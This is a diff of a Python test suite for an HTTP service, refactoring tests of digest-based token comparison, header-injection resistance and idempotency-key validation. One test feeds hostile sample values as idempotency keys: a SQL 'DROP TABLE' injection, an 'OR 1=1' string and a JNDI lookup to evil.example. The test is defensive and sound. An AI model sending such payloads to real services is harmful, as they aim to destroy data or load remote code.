@@ -20,7 +20,8 @@ from tests.guards import GUARD
 from tests.service.server.open_service import ASK, Service, opened
 
 TOKEN = "a-token-of-256-random-bits-perhaps"
-GUARDED = {"serve_token_sha256": (digest("another"), digest(TOKEN))}
+DIGESTS = (digest("another"), digest(TOKEN))
+GUARDED: dict[str, Any] = {"serve_token_sha256": DIGESTS}
 
 
 async def raw(service: Service, content: bytes, within_s: float = 10.0) -> bytes:
@@ -271,22 +272,19 @@ async def test_tokens_are_compared_as_digests_each_of_them(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     compared: list[tuple[str, str]] = []
+    really = hmac.compare_digest
 
     def compare(offered: str, known: str) -> bool:
         compared.append((offered, known))
-        return hmac.compare_digest(offered, known)
+        return really(offered, known)
 
     async with opened(tmp_path, **GUARDED) as service:
-        monkeypatch.setattr("service.server.access.hmac.compare_digest", compare, raising=True)
+        monkeypatch.setattr(hmac, "compare_digest", compare)
         for token in ("wrong", TOKEN, "another"):
             compared.clear()
-            with monkeypatch.context() as patch:
-                patch.setattr(
-                    hmac, "compare_digest", lambda a, b: (compared.append((a, b)), a == b)[1]
-                )
-                await raw(service, request("GET /v1/runs", f"Authorization: Bearer {token}"))
+            await raw(service, request("GET /v1/runs", f"Authorization: Bearer {token}"))
             offered = hashlib.sha256(token.encode()).hexdigest()
-            assert compared == [(offered, known) for known in GUARDED["serve_token_sha256"]]
+            assert compared == [(offered, known) for known in DIGESTS]
 
 
 async def test_a_guesser_is_slowed_down(tmp_path: Path) -> None:
@@ -420,8 +418,8 @@ async def test_no_text_of_a_request_becomes_a_header_of_an_answer(
     async with opened(tmp_path) as service:
         body = json.dumps({"symbol": text}).encode()
         heads = [await raw(service, post(body))]
-        for header in ("Idempotency-Key", "Last-Event-ID", "traceparent", "X-Any"):
-            heads.append(await raw(service, post(json.dumps(ASK).encode(), f"{header}: {text}")))
+        for name in ("Idempotency-Key", "Last-Event-ID", "traceparent", "X-Any"):
+            heads.append(await raw(service, post(json.dumps(ASK).encode(), f"{name}: {text}")))
         quoted = "".join(f"%{byte:02x}" for byte in text.encode())
         heads.append(await raw(service, request(f"GET /v1/runs?symbol={quoted}")))
         heads.append(await raw(service, request(f"GET /v1/runs/{quoted}")))
@@ -440,8 +438,8 @@ async def test_an_idempotency_key_is_short_and_plain(tmp_path: Path) -> None:
             assert status(await raw(service, post(body, b"Idempotency-Key: " + key))) == 400, key
         await goes_on(service)
         assert status(await raw(service, post(body, b"Idempotency-Key: " + b"k" * 200))) == 202
-        for key in ("'; DROP TABLE runs; --", '" OR 1=1', "${jndi:ldap://evil.example}"):
-            assert status(await raw(service, post(body, f"Idempotency-Key: {key}"))) == 202
+        for text in ("'; DROP TABLE runs; --", '" OR 1=1', "${jndi:ldap://evil.example}"):
+            assert status(await raw(service, post(body, f"Idempotency-Key: {text}"))) == 202
         assert len((await service.get("/v1/runs"))["runs"]) == 4
 
 
